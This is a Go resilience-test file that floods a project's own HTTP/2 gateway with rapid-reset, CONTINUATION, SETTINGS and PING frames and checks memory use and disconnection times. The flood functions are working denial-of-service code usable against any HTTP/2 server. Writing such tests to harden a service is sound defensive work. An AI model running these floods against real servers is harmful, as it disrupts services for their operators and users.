package chaos

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"ferry.dev/ferry/internal/contract"
	"ferry.dev/ferry/internal/feed/feedpb"
)

// B2 bounds.
const (
	// B2AttackFor bounds each flood: an offender still connected after it
	// was not disconnected.
	B2AttackFor = 20 * time.Second
	// B2ChangeLimit bounds how long a change takes to reach another
	// importer while the floods run.
	B2ChangeLimit = 5 * time.Second
)

// h2Attack is one HTTP/2 flood: it writes frames on fr until the server
// closes the connection (a write fails) or ctx ends.
type h2Attack struct {
	name string
	run  func(ctx context.Context, fr *http2.Framer, headers []byte) error
}

var h2Attacks = []h2Attack{
	{"rapid reset (HEADERS then RST_STREAM, new streams without end)", func(ctx context.Context, fr *http2.Framer, headers []byte) error {
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
				return err
			}
			if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	}},
	{"CONTINUATION (one header block that never ends)", func(ctx context.Context, fr *http2.Framer, headers []byte) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers}); err != nil {
			return err
		}
		var b bytes.Buffer
		enc := hpack.NewEncoder(&b)
		for i := 0; i < 200; i++ {
			_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-flood-%d", i), Value: strings.Repeat("a", 64)})
		}
		for ctx.Err() == nil {
			if err := fr.WriteContinuation(1, false, b.Bytes()); err != nil {
				return err
			}
		}
		return nil
	}},
	{"SETTINGS", func(ctx context.Context, fr *http2.Framer, _ []byte) error {
		for ctx.Err() == nil {
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}); err != nil {
				return err
			}
		}
		return nil
	}},
	{"PING", func(ctx context.Context, fr *http2.Framer, _ []byte) error {
		for ctx.Err() == nil {
			if err := fr.WritePing(false, [8]byte{1}); err != nil {
				return err
			}
		}
		return nil
	}},
}

// B2 connects to east's gateway as north's controller, a real identity of
// the mesh that may use the feed, and floods one h2 connection per attack
// at once. Meanwhile a change in east must reach west, another importer,
// within B2ChangeLimit. It samples east's gateway's RSS and times when the
// gateway closes each connection.
func (e *Env) B2(ctx context.Context) (row Row, err error) {
	row = Row{ID: "B2", Scenario: "HTTP/2 floods (rapid reset, CONTINUATION, SETTINGS, PING) on the feed port by an authenticated controller identity",
		Criterion: fmt.Sprintf("gateway RSS ≤ %d MiB; another importer sees a change and its undo, ≤ %s each (≤ %s for both), during the floods; each offender disconnected within %s", B1RSSLimit>>20, B2ChangeLimit, 2*B2ChangeLimit, B2AttackFor)}
	leaf, err := e.North.Issuer.IssueLeaf(contract.ControllerID(e.SB.Mesh, "north"), time.Hour)
	if err != nil {
		return row, err
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", feedpb.Feed_Subscribe_FullMethodName},
		{":authority", "ferry-gateway"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	base, err := e.East.Gateway.RSS()
	if err != nil {
		return row, err
	}
	stopSampling := samplePeakRSS(ctx, e.East.Gateway)
	defer stopSampling()

	attackCtx, stopAttacks := context.WithTimeout(ctx, B2AttackFor)
	defer stopAttacks()
	closedAfter := make([]time.Duration, len(h2Attacks))
	outcomes := make([]string, len(h2Attacks))
	var wg sync.WaitGroup
	for i, a := range h2Attacks {
		conn, err := e.dialFeedAs(ctx, leaf)
		if err != nil {
			return row, fmt.Errorf("%s: %w", a.name, err)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer conn.Close()
			closedAfter[i], outcomes[i] = runH2Attack(attackCtx, conn, a, hb.Bytes())
		}()
	}
	changeStart := time.Now()
	changeErr := e.flipAndSee(ctx, e.EastEcho["echo-b"], contract.MirrorName("echo-b", "east"))
	changeTook := time.Since(changeStart)
	wg.Wait()
	peak := stopSampling()

	row.Pass = changeErr == nil && changeTook <= 2*B2ChangeLimit && peak <= B1RSSLimit
	disconnected := 0
	for i, a := range h2Attacks {
		if closedAfter[i] > 0 {
			disconnected++
			row.detail("%s: disconnected after %s (%s)", a.name, since(closedAfter[i]), outcomes[i])
		} else {
			row.Pass = false
			row.detail("%s: still connected after %s (%s)", a.name, B2AttackFor, outcomes[i])
		}
	}
	changeText := since(changeTook)
	if changeErr != nil {
		changeText = "never: " + changeErr.Error()
	}
	row.Figure = fmt.Sprintf("gateway RSS peak %d MiB (%d before); %d of %d offenders disconnected; west's change (unready and back) in %s",
		peak>>20, base>>20, disconnected, len(h2Attacks), changeText)
	return row, nil
}

// dialFeedAs connects to east's gateway from north's site with cert,
// negotiating h2 as a feed client does.
func (e *Env) dialFeedAs(ctx context.Context, cert *tls.Certificate) (*tls.Conn, error) {
	raw, err := e.North.Site.NS.DialContext(ctx, "tcp", e.East.GatewayAddr())
	if err != nil {
		return nil, err
	}
	// The attacker does not care who the server is; the server checks it.
	c := tls.Client(raw, &tls.Config{Certificates: []tls.Certificate{*cert}, NextProtos: []string{"h2"}, InsecureSkipVerify: true}) //nolint:gosec // an attacker's client
	hctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	if err := c.HandshakeContext(hctx); err != nil {
		raw.Close()
		return nil, fmt.Errorf("handshake: %w", err)
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("negotiated %q, not h2", p)
	}
	return c, nil
}

// runH2Attack writes the preface and a SETTINGS frame, then runs a while a
// reader drains what the server sends. It returns how long after the start
// the server closed the connection (0 if it did not before ctx ended), and
// what it said last (a GOAWAY's code).
func runH2Attack(ctx context.Context, conn *tls.Conn, a h2Attack, headers []byte) (time.Duration, string) {
	start := time.Now()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return time.Since(start), "closed at the preface: " + err.Error()
	}
	fr := http2.NewFramer(conn, conn)
	if err := fr.WriteSettings(); err != nil {
		return time.Since(start), "closed at SETTINGS: " + err.Error()
	}
	var last atomic.Value
	last.Store("no GOAWAY")
	closed := make(chan time.Duration, 1)
	go func() {
		rfr := http2.NewFramer(io.Discard, conn)
		for {
			f, err := rfr.ReadFrame()
			if err != nil {
				if errors.Is(err, net.ErrClosed) {
					closed <- 0 // we closed it
				} else {
					closed <- time.Since(start)
				}
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				last.Store("GOAWAY " + g.ErrCode.String())
			}
		}
	}()
	actx, cancel := context.WithCancel(ctx)
	go func() {
		_ = a.run(actx, fr, headers) // a failed write is the server closing; the reader sees it
	}()
	var after time.Duration
	select {
	case after = <-closed:
	case <-ctx.Done():
		_ = conn.Close()
		<-closed
	}
	cancel()
	return after, last.Load().(string)
}
